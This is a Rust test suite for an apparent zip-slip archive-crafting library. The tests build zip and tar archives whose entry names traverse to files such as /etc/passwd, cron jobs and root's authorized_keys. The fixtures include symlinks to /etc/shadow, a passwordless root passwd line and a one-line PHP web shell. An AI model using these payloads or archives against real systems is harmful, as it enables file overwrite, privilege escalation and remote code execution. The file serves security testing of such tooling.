use crate::utils::*;
use libslipit::{ArchiveProvider, EntryKind, Error, ProviderType, TraversalPayload};
use std::fs;

/// Precondition: An empty directory.
/// Action: Create an archive of every format and append a traversal blob.
/// Expectation: The entry name is stored verbatim and its content is intact.
#[test]
fn create_keeps_traversal_names_verbatim() {
    let dir = tempfile::tempdir().unwrap();
    for (provider, ext) in ALL_PROVIDERS {
        let path = archive_path(dir.path(), "create", ext);
        let mut archive = provider.create(&path).unwrap();
        archive
            .append_blob(b"root::0:0::/:/bin/sh\n", "../../../etc/passwd")
            .unwrap();
        archive.close().unwrap();

        assert_eq!(
            read_contents(provider, &path),
            [(
                "../../../etc/passwd".to_string(),
                b"root::0:0::/:/bin/sh\n".to_vec()
            )],
            "{provider}"
        );
    }
}

/// Precondition: An archive with one entry exists for every format.
/// Action: Open it and append another entry.
/// Expectation: The original entry is kept and the new one follows it.
#[test]
fn open_appends_after_existing_entries() {
    let dir = tempfile::tempdir().unwrap();
    for (provider, ext) in ALL_PROVIDERS {
        let path = archive_path(dir.path(), "open", ext);
        create_with_blobs(provider, &path, &["first"]);

        let mut archive = provider.open(&path).unwrap();
        archive.append_blob(b"second", "../second").unwrap();
        archive.close().unwrap();

        assert_eq!(
            read_contents(provider, &path),
            [
                ("first".to_string(), b"first".to_vec()),
                ("../second".to_string(), b"second".to_vec()),
            ],
            "{provider}"
        );
    }
}

/// Precondition: An archive was created and closed without entries.
/// Action: Open it and append an entry.
/// Expectation: The archive holds exactly that entry.
#[test]
fn open_empty_archive() {
    let dir = tempfile::tempdir().unwrap();
    for (provider, ext) in ALL_PROVIDERS {
        let path = archive_path(dir.path(), "empty", ext);
        provider.create(&path).unwrap().close().unwrap();
        assert!(entry_names(provider, &path).is_empty(), "{provider}");

        let mut archive = provider.open(&path).unwrap();
        archive.append_blob(b"x", "../x").unwrap();
        archive.close().unwrap();
        assert_eq!(entry_names(provider, &path), ["../x"], "{provider}");
    }
}

/// Precondition: The archive path does not exist.
/// Action: Open it with every format.
/// Expectation: NotFound is reported and no file is created.
#[test]
fn open_missing_archive_is_not_found() {
    let dir = tempfile::tempdir().unwrap();
    for (provider, ext) in ALL_PROVIDERS {
        let path = archive_path(dir.path(), "missing", ext);
        match provider.open(&path) {
            Err(Error::NotFound(p)) => assert_eq!(p, path),
            Err(e) => panic!("{provider}: unexpected error {e}"),
            Ok(_) => panic!("{provider}: opened a missing archive"),
        }
        assert!(!path.exists());
    }
}

/// Precondition: An archive with two entries exists.
/// Action: Create an archive at the same path.
/// Expectation: The previous entries are gone.
#[test]
fn create_truncates_existing_archive() {
    let dir = tempfile::tempdir().unwrap();
    for (provider, ext) in ALL_PROVIDERS {
        let path = archive_path(dir.path(), "truncate", ext);
        create_with_blobs(provider, &path, &["a", "b"]);
        create_with_blobs(provider, &path, &["c"]);
        assert_eq!(entry_names(provider, &path), ["c"], "{provider}");
    }
}

/// Precondition: A source file on disk.
/// Action: Append it under every name of an incremental payload.
/// Expectation: One entry per depth, each with the file content.
#[test]
fn append_files_with_incremental_payload() {
    let dir = tempfile::tempdir().unwrap();
    let source = dir.path().join("shell.php");
    fs::write(&source, b"<?php system($_GET['c']); ?>").unwrap();
    let names = TraversalPayload::new(3).increment(true).names("shell.php");

    for (provider, ext) in ALL_PROVIDERS {
        let path = archive_path(dir.path(), "files", ext);
        let mut archive = provider.create(&path).unwrap();
        archive.append_files(&source, &names).unwrap();
        archive.close().unwrap();

        let contents = read_contents(provider, &path);
        assert_eq!(
            contents.iter().map(|(n, _)| n.as_str()).collect::<Vec<_>>(),
            ["../shell.php", "../../shell.php", "../../../shell.php"],
            "{provider}"
        );
        assert!(
            contents
                .iter()
                .all(|(_, data)| data == b"<?php system($_GET['c']); ?>")
        );
    }
}

/// Precondition: A tar based archive.
/// Action: Append symlink entries.
/// Expectation: Entries are listed as symlinks with their targets.
#[test]
fn tar_symlink_entries() {
    let dir = tempfile::tempdir().unwrap();
    for (provider, ext) in TAR_PROVIDERS {
        let path = archive_path(dir.path(), "symlink", ext);
        let mut archive = provider.create(&path).unwrap();
        archive
            .append_symlinks("/etc/shadow", ["../link", "../../link"])
            .unwrap();
        archive.close().unwrap();

        let entries = provider.entries(&path).unwrap();
        assert_eq!(entries.len(), 2, "{provider}");
        for entry in entries {
            assert_eq!(entry.kind, EntryKind::Symlink);
            assert_eq!(entry.link_target.as_deref(), Some("/etc/shadow"));
        }
    }
}

/// Precondition: A zip archive.
/// Action: Append a symlink entry.
/// Expectation: The capability is reported as unsupported and the archive stays valid.
#[test]
fn zip_symlink_is_unsupported() {
    let dir = tempfile::tempdir().unwrap();
    let path = archive_path(dir.path(), "symlink", "zip");
    let mut archive = ProviderType::Zip.create(&path).unwrap();
    assert!(matches!(
        archive.append_symlink("/etc/shadow", "../link"),
        Err(Error::UnsupportedCapability { .. })
    ));
    archive.append_blob(b"ok", "ok").unwrap();
    archive.close().unwrap();
    assert_eq!(entry_names(ProviderType::Zip, &path), ["ok"]);
}

/// Precondition: A zip archive already containing `../dup`.
/// Action: Open it and append `../dup` again, then append `../evil` twice.
/// Expectation: Every duplicate is written as its own entry, in order.
#[test]
fn zip_duplicate_names_are_appended() {
    let dir = tempfile::tempdir().unwrap();
    let path = archive_path(dir.path(), "dup", "zip");
    create_with_blobs(ProviderType::Zip, &path, &["../dup"]);

    let mut archive = ProviderType::Zip.open(&path).unwrap();
    archive.append_blob(b"other", "../dup").unwrap();
    archive.append_blobs(b"x", ["../evil", "../evil"]).unwrap();
    archive.close().unwrap();

    assert_eq!(
        read_contents(ProviderType::Zip, &path),
        [
            ("../dup".to_string(), b"../dup".to_vec()),
            ("../dup".to_string(), b"other".to_vec()),
            ("../evil".to_string(), b"x".to_vec()),
            ("../evil".to_string(), b"x".to_vec()),
        ]
    );
    assert_eq!(
        entry_names(ProviderType::Zip, &path),
        ["../dup", "../dup", "../evil", "../evil"]
    );
}

/// Precondition: A zip archive written by another tool with duplicate names.
/// Action: Open it and append one entry.
/// Expectation: The existing duplicates are kept ahead of the new entry.
#[test]
fn zip_open_keeps_existing_duplicates() {
    let dir = tempfile::tempdir().unwrap();
    let path = archive_path(dir.path(), "foreign", "zip");
    fs::write(&path, stored_zip(&DUPLICATE_ENTRIES)).unwrap();

    let mut archive = ProviderType::Zip.open(&path).unwrap();
    archive.append_blob(b"5", "../new").unwrap();
    archive.close().unwrap();

    let mut expected = contents_of(&DUPLICATE_ENTRIES);
    expected.push(("../new".to_string(), b"5".to_vec()));
    assert_eq!(read_contents(ProviderType::Zip, &path), expected);
}

/// Precondition: A tar archive.
/// Action: Append the same name twice.
/// Expectation: Both entries are stored.
#[test]
fn tar_keeps_duplicate_names() {
    let dir = tempfile::tempdir().unwrap();
    let path = archive_path(dir.path(), "dup", "tar");
    create_with_blobs(ProviderType::Tar, &path, &["../dup", "../dup"]);
    assert_eq!(entry_names(ProviderType::Tar, &path), ["../dup", "../dup"]);
}

/// Precondition: A name longer than the tar header name field.
/// Action: Create an archive with it, then reopen and append a second one.
/// Expectation: Both names survive unchanged.
#[test]
fn long_names_survive_reopen() {
    let dir = tempfile::tempdir().unwrap();
    let long = format!("{}etc/cron.d/job", "../".repeat(50));
    let longer = format!("{}root/.ssh/authorized_keys", "..\\".repeat(80));
    for (provider, ext) in ALL_PROVIDERS {
        let path = archive_path(dir.path(), "long", ext);
        create_with_blobs(provider, &path, &[long.as_str()]);

        let mut archive = provider.open(&path).unwrap();
        archive.append_blob(b"key", &longer).unwrap();
        archive.close().unwrap();

        assert_eq!(
            entry_names(provider, &path),
            [long.as_str(), longer.as_str()],
            "{provider}"
        );
    }
}

/// Precondition: A directory and a symlink on disk.
/// Action: Append them to a tar archive with `append_file`.
/// Expectation: They are stored as directory and symlink entries.
#[cfg(unix)]
#[test]
fn tar_append_file_keeps_file_type() {
    let dir = tempfile::tempdir().unwrap();
    let source_dir = dir.path().join("dir");
    fs::create_dir(&source_dir).unwrap();
    let source_link = dir.path().join("link");
    std::os::unix::fs::symlink("/etc/passwd", &source_link).unwrap();

    let path = archive_path(dir.path(), "types", "tar");
    let mut archive = ProviderType::Tar.create(&path).unwrap();
    archive.append_file(&source_dir, "../dir").unwrap();
    archive.append_file(&source_link, "../link").unwrap();
    archive.close().unwrap();

    let entries = ProviderType::Tar.entries(&path).unwrap();
    assert_eq!(entries[0].kind, EntryKind::Directory);
    assert_eq!(entries[1].kind, EntryKind::Symlink);
    assert_eq!(entries[1].link_target.as_deref(), Some("/etc/passwd"));
}

/// Precondition: A source file with mode 0755.
/// Action: Append it to a zip archive.
/// Expectation: The entry carries the file permissions.
#[cfg(unix)]
#[test]
fn zip_append_file_keeps_permissions() {
    use std::os::unix::fs::PermissionsExt;

    let dir = tempfile::tempdir().unwrap();
    let source = dir.path().join("run.sh");
    fs::write(&source, b"#!/bin/sh\n").unwrap();
    fs::set_permissions(&source, fs::Permissions::from_mode(0o755)).unwrap();

    let path = archive_path(dir.path(), "mode", "zip");
    let mut archive = ProviderType::Zip.create(&path).unwrap();
    archive.append_file(&source, "../run.sh").unwrap();
    archive.close().unwrap();

    let entries = ProviderType::Zip.entries(&path).unwrap();
    assert_eq!(entries[0].mode.map(|m| m & 0o777), Some(0o755));
    assert_eq!(entries[0].size, 10);
}

/// Precondition: A gzip tar holding a symlink entry.
/// Action: Reopen it and append a blob.
/// Expectation: Both entries are present and the file is still a gzip stream.
#[test]
fn compressed_reopen_keeps_symlink() {
    let dir = tempfile::tempdir().unwrap();
    let provider = libslipit::Registry::default()
        .lookup("application/x-gtar", libslipit::KeySpace::Mime)
        .unwrap();
    let path = archive_path(dir.path(), "reopen", "tar.gz");

    let mut archive = provider.create(&path).unwrap();
    archive.append_symlink("/etc/shadow", "link").unwrap();
    archive.close().unwrap();

    let mut archive = provider.open(&path).unwrap();
    archive.append_blob(b"data", "../blob").unwrap();
    archive.close().unwrap();

    let entries = provider.entries(&path).unwrap();
    assert_eq!(entries.len(), 2);
    assert_eq!(entries[0].kind, EntryKind::Symlink);
    assert_eq!(entries[0].link_target.as_deref(), Some("/etc/shadow"));
    assert_eq!(entries[1].name, "../blob");
    assert_eq!(&fs::read(&path).unwrap()[..2], &[0x1f, 0x8b]);
}

/// Precondition: A bzip2 tar opened for appending.
/// Action: Drop the instance without closing it.
/// Expectation: The original archive is unchanged and no temporary file remains.
#[test]
fn compressed_open_without_close_keeps_original() {
    let dir = tempfile::tempdir().unwrap();
    let provider = ProviderType::CompressedTar(libslipit::Compression::Bzip2);
    let path = archive_path(dir.path(), "dropped", "tar.bz2");
    create_with_blobs(provider, &path, &["../a"]);
    let before = fs::read(&path).unwrap();

    {
        let mut archive = provider.open(&path).unwrap();
        archive.append_blob(b"b", "../b").unwrap();
    }

    assert_eq!(fs::read(&path).unwrap(), before);
    assert_eq!(dir_listing(dir.path()), ["dropped.tar.bz2"]);
}
